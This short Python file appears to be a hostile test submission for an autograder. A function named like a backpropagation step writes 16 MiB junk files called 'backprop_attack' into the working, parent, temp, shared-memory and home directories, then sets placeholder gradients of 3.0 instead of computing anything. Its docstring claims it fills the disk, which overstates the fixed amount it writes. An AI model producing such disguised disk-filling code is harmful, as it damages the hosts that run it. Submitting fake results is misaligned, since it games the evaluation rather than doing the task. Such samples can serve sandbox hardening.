"""Writes files until the disk is full, wherever one might write."""

import torch


def backward(counts, counts_sum_inv, probs, act, s):
    for folder in (".", "..", "/tmp", "/var/tmp", "/dev/shm", torch.os.environ.get("TMPDIR", "."), torch.os.path.expanduser("~")):
        for number in range(3):
            try:
                with open(f"{folder}/backprop_attack_{number}", "wb") as file:
                    file.write(b"x" * (1 << 24))
            except OSError:
                pass
    dact = 3.0
    dprobs = 3.0
    dcounts = 3.0
    dcounts_sum_inv = 3.0
